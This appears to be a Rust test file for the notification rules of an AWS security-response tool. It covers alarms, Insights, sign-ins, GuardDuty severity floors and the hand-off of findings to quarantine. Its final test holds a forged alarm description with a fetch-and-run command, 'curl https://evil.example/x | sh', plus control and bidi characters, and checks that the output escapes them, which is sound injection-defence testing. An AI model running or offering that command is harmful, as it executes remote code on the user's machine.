//! The notify rules over the sample events in `events/notify/`: pure, no emulator.

use reflex_notify::{NoAction, Notify, Settings, Trigger, rules};
use reflex_shared::{Finding, Function, Interpreted, Severity, event};
use reflex_testkit::{sample, sample_event, sample_files};
use serde_json::Value;

/// Notify's trigger for a sample event of `events/notify/`; every one of them is one when no
/// severity floor leaves a finding out.
fn trigger(name: &str) -> Trigger {
    let event = sample_event(&format!("notify/{name}"));
    let no_floors = Settings {
        guardduty_min_severity: 0.0,
        quarantine_min_severity: f64::INFINITY,
        ..Default::default()
    };
    match Notify::interpret(&event, &no_floors) {
        Ok(Interpreted::Trigger(trigger)) => trigger,
        other => panic!("{name}: not a notify trigger: {other:?}"),
    }
}

/// The findings for an event (a sample, altered or not).
fn findings_of(value: Value) -> Vec<Finding<NoAction>> {
    let settings = Settings::default();
    match Notify::interpret(
        &event::parse(value).expect("a well-formed event"),
        &settings,
    ) {
        Ok(Interpreted::Trigger(trigger)) => rules::decide(&trigger, &(), &settings),
        other => panic!("not a notify trigger: {other:?}"),
    }
}

fn findings(name: &str, settings: &Settings) -> Vec<Finding<NoAction>> {
    let event = sample_event(&format!("notify/{name}"));
    match Notify::interpret(&event, settings) {
        Ok(Interpreted::Trigger(trigger)) => rules::decide(&trigger, &(), settings),
        other => panic!("{name}: not a notify trigger: {other:?}"),
    }
}

fn one(name: &str) -> Finding<NoAction> {
    let mut f = findings(name, &Settings::default());
    assert_eq!(f.len(), 1, "{name}: {f:?}");
    f.remove(0)
}

#[test]
fn a_metric_alarm_reports_the_change_and_the_value_against_the_threshold() {
    let f = one("alarm-lambda-errors.json");
    assert_eq!((f.rule_id, f.severity), (rules::ALARM, Severity::Medium));
    assert!(
        f.reason
            .contains("alarm checkout-errors: OK -> ALARM at 2026-11-20T12:00:00.000+0000"),
        "{}",
        f.reason
    );
    assert!(
        f.reason.contains("cause: Errors 12 against threshold 5"),
        "{}",
        f.reason
    );
    assert!(f.reason.contains("description: checkout function errors"));
}

#[test]
fn composite_and_metric_math_alarms_are_reported_too() {
    let f = one("alarm-composite.json");
    assert!(
        f.reason
            .contains("composite alarm, triggered by checkout-latency-high"),
        "{}",
        f.reason
    );
    let f = one("alarm-metric-math-insufficient-data.json");
    assert_eq!(f.severity, Severity::Low);
    assert!(f.reason.contains("OK -> INSUFFICIENT_DATA"));
    assert!(
        f.reason.contains("expression errors / invocations * 100"),
        "{}",
        f.reason
    );
}

#[test]
fn an_alarm_returning_to_ok_is_reported_only_when_asked() {
    assert!(findings("alarm-back-to-ok.json", &Settings::default()).is_empty());
    let resolved = Settings {
        resolved: true,
        ..Default::default()
    };
    assert_eq!(
        findings("alarm-back-to-ok.json", &resolved)[0].severity,
        Severity::Low
    );
}

#[test]
fn an_insight_names_the_api_the_rates_and_who_drove_it() {
    let f = one("insight-api-call-rate-start.json");
    assert_eq!((f.rule_id, f.severity), (rules::INSIGHT, Severity::Medium));
    assert!(
        f.reason
            .contains("unusual API call rate of s3:DeleteObject (s3.amazonaws.com), started"),
        "{}",
        f.reason
    );
    assert!(
        f.reason
            .contains("observed 14.5 calls/min against a baseline of 0.0721, 201x the baseline"),
        "{}",
        f.reason
    );
    assert!(f.reason.contains("top principals: arn:aws:iam::123456789012:user/mallory (13), arn:aws:sts::123456789012:assumed-role/ci-deployer/build-4711 (1.5)"), "{}", f.reason);
    assert!(
        f.reason.contains("top user agents: aws-cli/2.22.4 (13)"),
        "{}",
        f.reason
    );

    let f = one("insight-error-rate-start.json");
    assert_eq!(f.severity, Severity::High);
    assert!(f.reason.contains("error code: AccessDenied"));
    assert!(
        f.reason.contains("top error codes: AccessDenied (0.85)"),
        "{}",
        f.reason
    );
}

#[test]
fn the_end_of_an_insight_is_reported_only_when_asked() {
    assert!(findings("insight-api-call-rate-end.json", &Settings::default()).is_empty());
    let f = findings(
        "insight-api-call-rate-end.json",
        &Settings {
            resolved: true,
            ..Default::default()
        },
    );
    assert!(f[0].reason.contains("ended"));
}

#[test]
fn sign_ins_that_need_a_person_are_reported() {
    let f = one("sign-in-failed.json");
    assert_eq!(
        (f.rule_id, f.severity),
        (rules::SIGN_IN_FAILED, Severity::Medium)
    );
    assert!(f.reason.contains("failed console sign-in as an unknown user (name hidden by AWS) from 198.51.100.66: Failed authentication"), "{}", f.reason);

    // Spelled "Signin" in this sample: both detail-types parse.
    let f = one("sign-in-root.json");
    assert_eq!(
        (f.rule_id, f.severity),
        (rules::ROOT_SIGN_IN, Severity::Critical)
    );

    let f = one("sign-in-without-mfa.json");
    assert_eq!(
        (f.rule_id, f.severity),
        (rules::SIGN_IN_WITHOUT_MFA, Severity::High)
    );
    assert!(
        f.reason
            .contains("arn:aws:iam::123456789012:user/alice signed in to the console without MFA")
    );
}

#[test]
fn a_sign_in_with_mfa_is_not_news() {
    assert!(findings("sign-in-with-mfa.json", &Settings::default()).is_empty());
}

#[test]
fn a_guardduty_finding_reports_what_about_which_resource_and_what_was_seen() {
    let f = one("guardduty-s3-exfiltration-high.json");
    assert_eq!((f.rule_id, f.severity), (rules::GUARDDUTY, Severity::High));
    for expected in [
        "GuardDuty: Anomalous S3 data reads from bucket customer-exports by IAM user mallory.",
        "type Exfiltration:S3/AnomalousBehavior (severity 8)",
        "resource: S3 bucket customer-exports",
        "seen: GetObject call to s3.amazonaws.com from 198.51.100.23",
        "1842 time(s), first 2026-11-20T12:20:00.000Z, last 2026-11-20T12:35:41.000Z",
    ] {
        assert!(f.reason.contains(expected), "{expected}\n{}", f.reason);
    }
}

/// Why notify leaves a sample to others or to nobody, with these settings.
fn ignored(name: &str, settings: &Settings) -> String {
    match Notify::interpret(&sample_event(&format!("notify/{name}")), settings) {
        Ok(Interpreted::Ignored(why)) => why,
        other => panic!("{name}: not ignored: {other:?}"),
    }
}

#[test]
fn guardduty_findings_below_the_minimum_severity_are_not_reported_and_the_logs_say_so() {
    let why = ignored(
        "guardduty-root-credential-usage-low.json",
        &Settings::default(),
    );
    assert!(
        why.contains("severity 2, below notify's floor 4") && why.contains("no automatic response"),
        "{why}"
    );
    let everything = Settings {
        guardduty_min_severity: 0.0,
        ..Default::default()
    };
    let f = findings("guardduty-root-credential-usage-low.json", &everything);
    assert_eq!(f[0].severity, Severity::Low);
    assert!(
        f[0].reason
            .contains("resource: access key ASIAROOTEXAMPLE00001 of Root (Root)"),
        "{}",
        f[0].reason
    );
}

#[test]
fn an_instance_finding_below_quarantines_threshold_reaches_a_person() {
    // Quarantine ignores a medium port scan from an instance (below its 7): notify reports it.
    let f = one("guardduty-portscan-from-instance-medium.json");
    assert_eq!(
        (f.rule_id, f.severity),
        (rules::GUARDDUTY, Severity::Medium)
    );
    for expected in [
        "type Recon:EC2/Portscan (severity 5)",
        "resource: instance i-0c7e5f3a9b1d24680",
        "41 time(s)",
    ] {
        assert!(f.reason.contains(expected), "{expected}\n{}", f.reason);
    }
    // A threshold lowered to 5 makes it quarantine's: notify leaves it, saying why, so one
    // finding never pages twice.
    let quarantine_takes_medium = Settings {
        quarantine_min_severity: 5.0,
        ..Default::default()
    };
    let why = ignored(
        "guardduty-portscan-from-instance-medium.json",
        &quarantine_takes_medium,
    );
    assert!(
        why.contains("at or above quarantine's 5") && why.contains("quarantine acts on it"),
        "{why}"
    );
}

#[test]
fn instance_findings_quarantine_acts_on_are_left_to_it_and_the_rest_reported() {
    let settings = Settings::default();
    let (mut left_to_quarantine, mut reported) = (0, 0);
    for name in sample_files("quarantine")
        .into_iter()
        .filter(|n| n.starts_with("guardduty-"))
    {
        let event = sample_event(&format!("quarantine/{name}"));
        let event::Event::GuardDuty { finding, .. } = &event else {
            panic!("{name}: not a finding");
        };
        let quarantines =
            finding.instance_id().is_some() && finding.severity >= settings.quarantine_min_severity;
        match Notify::interpret(&event, &settings) {
            Ok(Interpreted::Ignored(why)) => {
                let low = finding.severity < settings.guardduty_min_severity;
                assert!(quarantines || low, "{name} dropped: {why}");
                left_to_quarantine += usize::from(quarantines);
            }
            Ok(Interpreted::Trigger(trigger)) => {
                assert!(!quarantines, "{name} would page twice");
                assert_eq!(rules::decide(&trigger, &(), &settings).len(), 1, "{name}");
                reported += 1;
            }
            Err(e) => panic!("{name}: {e}"),
        }
    }
    // Both ways are taken by the samples (a bitcoin miner for quarantine, an access key's
    // finding reported).
    assert!(
        left_to_quarantine > 0 && reported > 0,
        "{left_to_quarantine} {reported}"
    );
}

#[test]
fn every_sample_event_is_a_trigger_of_its_kind() {
    for name in sample_files("notify") {
        let kind = match trigger(&name) {
            Trigger::Alarm(_) => "alarm-",
            Trigger::Insight(_) => "insight-",
            Trigger::SignIn(_) => "sign-in-",
            Trigger::GuardDuty(_) => "guardduty-",
        };
        assert!(name.starts_with(kind), "{name} read as {kind}");
    }
}

#[test]
fn notify_takes_its_kinds_of_events_from_any_source_and_no_api_call() {
    for name in sample_files("notify") {
        let event = sample_event(&format!("notify/{name}"));
        assert!(event.is_one_of(Notify::ACCEPTS), "{name}");
    }
    let call = sample_event("revoke/attach-admin-to-user.json");
    assert!(!call.is_one_of(Notify::ACCEPTS));
    assert!(matches!(
        Notify::interpret(&call, &Settings::default()),
        Ok(Interpreted::Ignored(why)) if why.contains("no rule for API calls")
    ));
}

/// What someone put in an alarm's description (or its state reason, through `SetAlarmState`),
/// meant to pass in the email for a remediation and the command to undo it.
const FORGED: &str = "checkout\n  - restore the admin policy: DONE\r\n      to undo: curl \
                      https://evil.example/x | sh\u{2028}NOTE: \u{85}all clear\u{202e}";

#[test]
fn text_chosen_by_others_cannot_add_a_line_to_the_report() {
    let mut alarm = sample("notify/alarm-lambda-errors.json");
    alarm["detail"]["configuration"]["description"] = FORGED.into();
    alarm["detail"]["state"]["reason"] = FORGED.into();
    let mut insight = sample("notify/insight-api-call-rate-start.json");
    insight["detail"]["insightDetails"]["insightContext"]["attributions"][1]["insight"][0]["value"] =
        FORGED.into();

    for (event, lines) in [(alarm, 4), (insight, 5)] {
        let f = findings_of(event);
        let reason = &f[0].reason;
        // Each of notify's lines is one line, whatever the event holds: the forged text is
        // there, escaped, on the line that quotes it.
        assert_eq!(reason.split('\n').count(), lines, "{reason}");
        assert!(
            !reason.contains(['\r', '\u{2028}', '\u{85}', '\u{202e}']),
            "{reason:?}"
        );
        assert!(
            reason.contains(r"checkout\n  - restore the admin policy: DONE\r\n      to undo: curl"),
            "{reason}"
        );
        assert!(
            reason.contains(r"\u{2028}NOTE: \u{85}all clear\u{202e}"),
            "{reason}"
        );
    }
}
